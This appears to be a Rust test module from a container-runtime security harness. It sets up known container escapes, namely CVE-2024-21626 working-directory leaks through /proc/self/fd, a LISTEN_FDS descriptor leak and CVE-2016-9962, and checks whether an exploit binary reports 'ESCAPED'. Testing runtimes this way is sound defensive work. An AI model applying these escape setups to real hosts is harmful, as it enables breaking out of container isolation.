//! A descriptor of the host that is open in the container, or is the folder that it starts in.
use super::process;
use crate::row::{Ask, Row};
use crate::site::{SECRET, Site};
use anyhow::Result;
use serde_json::json;
use stack::process::{Daemon, output, run};
use std::process::Command;

/// 3 to 22.
const CWDS: u32 = 20;

pub(super) fn rows() -> Vec<Row> {
    vec![
        // Which number the host's folder has differs with the runtime: one start for each.
        Row::request("CVE-2024-21626", "a container that starts in /proc/self/fd/N", "cwd-descriptor", |site, ask| {
            let number = 3 + site.round % CWDS;
            ask.request.spec["process"]["cwd"] = json!(format!("/proc/self/fd/{number}"));
            Ok(())
        })
        .exploit(&["climb", SECRET])
        .control(chrooted)
        .rounds(CWDS),
        Row::request(
            "CVE-2024-21626",
            "the image's folder to start in is a link to /proc/self/fd/7",
            "cwd-link",
            |_, ask| {
                ask.request.spec["process"]["cwd"] = json!("/cwd");
                Ok(())
            },
        )
        .image("cwd-link", "app")
        .exploit(&["climb", SECRET])
        .control(chrooted),
        Row::request("CVE-2024-21626", "an exec that starts in /proc/self/fd/N", "cwd-exec", |_, ask| {
            ask.execs = (3..12)
                .map(|fd| {
                    let mut process = process(&["/bin/exploit", "climb", SECRET]);
                    process["cwd"] = json!(format!("/proc/self/fd/{fd}"));
                    process
                })
                .collect();
            Ok(())
        })
        .args(&["/bin/sleep", "60"])
        .common(|_, ask| {
            ask.execs = vec![process(&["/bin/true"])];
            Ok(())
        })
        .escaped(|_, _, seen| Ok(seen.output().contains("ESCAPED")))
        .control(chrooted),
        Row::inside(
            "libcontainer LISTEN_FDS",
            "descriptors that the runtime left open",
            "descriptors",
            &["descriptors", SECRET],
        )
        .control(|site| {
            let script = format!("exec 9</; exec {} descriptors {SECRET}", site.exploit.display());
            Ok(output(Command::new("sh").args(["-c", &script]))?.stdout.starts_with("ESCAPED"))
        }),
        Row::inside(
            "CVE-2016-9962",
            "the descriptors of a process that is just entering the container",
            "descriptors-of-exec",
            &["peek", SECRET, "4"],
        )
        .common(|_, ask| entering(ask))
        .control(|site| {
            let log = site.world.node.work.join("peek.log");
            let mut victim = Daemon::start(
                "a process with the host's root open",
                Command::new("sh").args(["-c", "exec 9</; sleep 5"]),
                &log,
            )?;
            let seen = site.bare(&["peek", SECRET, "4"])?;
            victim.stop()?;
            Ok(seen.word("ESCAPED ").is_some())
        }),
    ]
}

fn entering(ask: &mut Ask) -> Result<()> {
    ask.execs = (0..10).map(|_| process(&["/bin/true"])).collect();
    Ok(())
}

/// chroot with a descriptor of the host open, and into it.
fn chrooted(site: &mut Site) -> Result<bool> {
    let root = site.world.node.work.join("cwd-root");
    let root = root.display().to_string();
    let script = format!(
        "mkdir -p {root}/bin {root}/proc && cp /bin/busybox {root}/bin/sh && cp {} {root}/bin/exploit && \
         mount -t proc proc {root}/proc && exec 9</ && \
         chroot {root} /bin/sh -c 'cd /proc/self/fd/9 && exec /bin/exploit climb {SECRET}'",
        site.exploit.display()
    );
    let said = output(Command::new("unshare").args(["--mount", "sh", "-c", &script]))?;
    run(Command::new("rm").args(["-rf", &root]))?;
    Ok(said.stdout.starts_with("ESCAPED"))
}
